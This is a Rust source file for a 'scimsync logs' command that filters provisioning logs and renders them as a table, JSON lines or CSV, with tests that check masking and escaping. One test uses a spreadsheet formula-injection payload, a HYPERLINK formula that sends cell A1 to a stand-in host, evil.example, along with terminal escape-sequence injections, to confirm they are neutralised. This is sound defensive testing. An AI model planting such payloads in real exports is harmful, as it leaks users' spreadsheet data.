//! `scimsync logs`: the provisioning log of one job, filtered, as a table, JSON lines or
//! Entra-style CSV.
//!
//! The log is read from the job's state store. A running `serve` holds that store locked;
//! then the log is read through its admin API instead.

use crate::render;
use chrono::Utc;
use scimsync_api::logs::{self as shared, LogFilter, LogQuery};
use scimsync_config::{AdminConfig, SERVICE_FILE};
use scimsync_core::{LogEntry, Secret};
use serde_json::Value;
use std::path::{Path, PathBuf};

/// Where `serve` writes the admin token it generated (see `serve`).
const GENERATED_TOKEN_FILE: &str = "admin-token";

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Format {
    Table,
    Jsonl,
    Csv,
}

/// The flags of `scimsync logs`.
#[derive(Debug, Clone, clap::Args)]
pub struct LogsArgs {
    #[arg(long)]
    pub job: String,
    /// Only this cycle's entries.
    #[arg(long)]
    pub cycle: Option<String>,
    /// success, failure, skipped or warning.
    #[arg(long)]
    pub status: Option<String>,
    /// create, update, delete, disable, stageddelete or other.
    #[arg(long)]
    pub action: Option<String>,
    /// Object id or a substring of the UPN or display name.
    #[arg(long)]
    pub user: Option<String>,
    /// RFC 3339 time, a date, or an age such as 2h or 7d.
    #[arg(long)]
    pub since: Option<String>,
    #[arg(long)]
    pub until: Option<String>,
    #[arg(long, value_enum, default_value = "table")]
    pub format: Format,
    /// The config directory of the `serve` that runs the job (its admin API is used when
    /// the state is locked).
    #[arg(long)]
    pub config_dir: Option<PathBuf>,
}

impl LogsArgs {
    fn query(&self) -> LogQuery {
        LogQuery {
            cycle: self.cycle.clone(),
            status: self.status.clone(),
            action: self.action.clone(),
            user: self.user.clone(),
            since: self.since.clone(),
            until: self.until.clone(),
            limit: Some(shared::MAX_LIMIT),
        }
    }
}

/// How a job's state can be read right now.
pub(crate) enum Access {
    Store(crate::store_select::Store),
    /// A running `serve` holds the store.
    Locked,
}

/// Open the job's existing store (never creates one).
pub(crate) fn open_existing(state: &Path, job: &str) -> Result<Access, String> {
    Ok(match crate::store_select::open_existing(state, job)? {
        Some(store) => Access::Store(store),
        None => Access::Locked,
    })
}

/// GET from the admin API of the `serve` holding the state.
pub(crate) async fn admin_get(
    config_dir: Option<&Path>,
    state: &Path,
    path: &str,
) -> Result<Value, String> {
    let admin = match config_dir.map(|d| d.join(SERVICE_FILE)) {
        Some(f) if f.exists() => {
            scimsync_config::load_service(&f)
                .map_err(|errs| {
                    errs.iter()
                        .map(|e| e.to_string())
                        .collect::<Vec<_>>()
                        .join("\n")
                })?
                .admin
        }
        _ => AdminConfig::default(),
    };
    let token: Secret = match &admin.token {
        Some(t) => t.resolve().map_err(|e| format!("admin.token: {e}"))?,
        None => {
            let f = state.join(GENERATED_TOKEN_FILE);
            let t = std::fs::read_to_string(&f).map_err(|_| {
                format!(
                    "no admin token: give --config-dir with the service file, or let `serve` generate {}",
                    f.display()
                )
            })?;
            Secret::inline(t.trim())
        }
    };
    // http or https (trusting exactly `[admin] tls_cert`), as `serve` listens.
    let (base, client) = crate::serve::admin_client(&admin, std::time::Duration::from_secs(60))
        .map_err(|e| format!("{e:#}"))?;
    let url = format!("{base}{path}");
    let resp = client
        .get(&url)
        .bearer_auth(token.expose())
        .send()
        .await
        .map_err(|_| {
            format!(
                "the job's state is locked by a running `scimsync serve`, and its admin API at {base} is not reachable (give --config-dir)"
            )
        })?;
    let status = resp.status();
    let v: Value = resp.json().await.unwrap_or(Value::Null);
    if !status.is_success() {
        let msg = v["error"]["message"].as_str().unwrap_or("");
        return Err(format!("admin API answered {status}: {msg}"));
    }
    Ok(v)
}

fn encode_query(q: &LogQuery) -> String {
    let mut pairs = Vec::new();
    let fields = [
        ("cycle", &q.cycle),
        ("status", &q.status),
        ("action", &q.action),
        ("user", &q.user),
        ("since", &q.since),
        ("until", &q.until),
    ];
    for (k, v) in fields {
        if let Some(v) = v {
            let v: String = url::form_urlencoded::byte_serialize(v.as_bytes()).collect();
            pairs.push(format!("{k}={v}"));
        }
    }
    pairs.push(format!("limit={}", shared::MAX_LIMIT));
    pairs.join("&")
}

/// `scimsync logs`.
pub async fn command(args: &LogsArgs, state: &Path) -> u8 {
    let query = args.query();
    let filter: LogFilter = match query.filter(Utc::now()) {
        Ok(f) => f,
        Err(e) => {
            eprintln!("error: {e}");
            return 2;
        }
    };
    let entries: Result<Vec<LogEntry>, String> = match open_existing(state, &args.job) {
        Err(e) => Err(e),
        Ok(Access::Store(store)) => {
            shared::query(&store, &args.job, &filter).map_err(|e| e.to_string())
        }
        Ok(Access::Locked) => {
            let path = format!("/api/jobs/{}/logs?{}", args.job, encode_query(&query));
            admin_get(args.config_dir.as_deref(), state, &path)
                .await
                .and_then(|v| {
                    // The API answers newest first; the command prints oldest first.
                    let mut e: Vec<LogEntry> = serde_json::from_value(v["entries"].clone())
                        .map_err(|e| format!("unexpected answer from the admin API: {e}"))?;
                    e.reverse();
                    Ok(e)
                })
        }
    };
    let entries = match entries {
        Ok(e) => e,
        Err(e) => {
            eprintln!("error: {e}");
            return 1;
        }
    };
    print!("{}", render(&entries, args.format));
    0
}

/// The entries in the chosen format (already masked).
pub fn render(entries: &[LogEntry], format: Format) -> String {
    match format {
        Format::Csv => csv(entries),
        Format::Jsonl => entries
            .iter()
            .filter_map(|e| serde_json::to_string(e).ok())
            .map(|l| l + "\n")
            .collect(),
        Format::Table => table(entries),
    }
}

/// Entra's provisioning log download: the API's columns, each cell safe to open in a
/// spreadsheet (control characters shown, no formulas; see [`scimsync_core::text::csv_cell`]).
fn csv(entries: &[LogEntry]) -> String {
    shared::to_csv(entries)
}

/// `s` shown safely ([`render::visible`]) and cut to `max` characters.
fn cut(s: &str, max: usize) -> String {
    let s = render::visible(s);
    if s.chars().count() <= max {
        s.into_owned()
    } else {
        let mut t: String = s.chars().take(max.saturating_sub(1)).collect();
        t.push('…');
        t
    }
}

fn table(entries: &[LogEntry]) -> String {
    if entries.is_empty() {
        return "no log entries match\n".into();
    }
    let rows: Vec<[String; 7]> = entries
        .iter()
        .map(|e| {
            [
                e.activity_date_time.format("%Y-%m-%d %H:%M:%S").to_string(),
                shared::name_of(&e.provisioning_action),
                shared::name_of(&e.status),
                cut(&e.source_display_name, 32),
                e.error_code.map(|c| c.to_string()).unwrap_or_default(),
                cut(&e.cycle_id, 12),
                cut(e.reason.as_deref().unwrap_or(""), 60),
            ]
        })
        .collect();
    let head = [
        "TIME (UTC)",
        "ACTION",
        "STATUS",
        "IDENTITY",
        "ERROR CODE",
        "CYCLE",
        "REASON",
    ];
    let mut widths = head.map(|h| h.chars().count());
    for r in &rows {
        for (w, c) in widths.iter_mut().zip(r) {
            *w = (*w).max(c.chars().count());
        }
    }
    let line = |cells: Vec<&str>| {
        let mut l = cells
            .iter()
            .zip(widths)
            .map(|(c, w)| format!("{c:<w$}"))
            .collect::<Vec<_>>()
            .join("  ");
        l.truncate(l.trim_end().len());
        l + "\n"
    };
    let mut out = line(head.to_vec());
    for r in &rows {
        out.push_str(&line(r.iter().map(String::as_str).collect()));
    }
    out.push_str(&format!("{} entries\n", rows.len()));
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use scimsync_core::{ErrorCode, LogAction, LogStatus, LogStep, ModifiedProperty};

    fn entry() -> LogEntry {
        LogEntry {
            id: "e1".into(),
            activity_date_time: Utc::now(),
            job_id: "app".into(),
            cycle_id: "c1".into(),
            change_id: "ch1".into(),
            provisioning_action: LogAction::Create,
            status: LogStatus::Failure,
            error_code: Some(ErrorCode::SchemaViolation),
            reason: Some("bad, \"value\"".into()),
            source_id: "s1".into(),
            source_display_name: "ada@contoso.example".into(),
            target_id: None,
            provisioning_steps: vec![LogStep {
                name: "EntryExportAdd".into(),
                provisioning_step_type: "export".into(),
                status: LogStatus::Failure,
                description: "POST /Users".into(),
            }],
            modified_properties: vec![ModifiedProperty {
                display_name: "userPassword".into(),
                old_value: Some("old-secret-value".into()),
                new_value: Some("new-secret-value".into()),
            }],
            duration_in_milliseconds: 3,
        }
    }

    #[test]
    fn no_secret_in_any_format() {
        let masked = vec![shared::mask(&entry())];
        for f in [Format::Table, Format::Jsonl, Format::Csv] {
            let out = render(&masked, f);
            assert!(!out.contains("secret-value"), "{f:?}: {out}");
            assert!(out.contains("SchemaViolation"), "{f:?}: {out}");
        }
        assert!(render(&masked, Format::Jsonl).contains("[Redacted]"));
        assert!(render(&masked, Format::Csv).contains("[Redacted]"));
    }

    /// Issue 12 §2: control characters from source names never reach the terminal through
    /// the table, and the CSV opens in a spreadsheet without running a formula.
    #[test]
    fn hostile_names_are_escaped_in_the_table_and_csv() {
        let mut e = entry();
        e.source_display_name = "Ada\u{1b}[31m\u{7}\nLove".into();
        e.reason = Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into());
        e.target_id = Some("@SUM(1+1)".into());
        e.provisioning_steps[0].description = "\u{1b}]0;title\u{7}".into();
        let entries = vec![shared::mask(&e)];

        let t = render(&entries, Format::Table);
        assert!(!t.contains(['\u{1b}', '\u{7}']), "{t:?}");
        assert!(t.contains(r"Ada\u{1b}[31m\u{7}\nLove"), "{t}");
        assert_eq!(t.lines().count(), 3, "header, one row, count: {t}");

        let csv = render(&entries, Format::Csv);
        assert!(!csv.contains(['\u{1b}', '\u{7}']), "{csv:?}");
        assert!(csv.contains(r"Ada\u{1b}[31m\u{7}\nLove"), "{csv}");
        assert!(
            csv.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""click"")""#),
            "{csv}"
        );
        assert!(csv.contains(",'@SUM(1+1),"), "{csv}");
        assert!(csv.contains(r"\u{1b}]0;title\u{7}"), "{csv}");
        // Still one record per entry: no raw line break inside a cell.
        assert_eq!(csv.matches("\r\n").count(), 2, "{csv:?}");
        assert!(csv.starts_with(&shared::CSV_HEADER.join(",")));

        // JSON lines stay JSON, escaped by serde.
        let j = render(&entries, Format::Jsonl);
        assert!(j.contains(r"Ada\u001b[31m\u0007\nLove"), "{j}");
        assert_eq!(j.lines().count(), 1);
    }

    #[test]
    fn table_aligns_columns_and_counts() {
        let t = table(&[entry(), entry()]);
        let lines: Vec<&str> = t.lines().collect();
        assert!(lines[0].starts_with("TIME (UTC)"));
        assert_eq!(lines[0].find("ACTION"), lines[1].find("create"));
        assert_eq!(lines.last(), Some(&"2 entries"));
    }
}
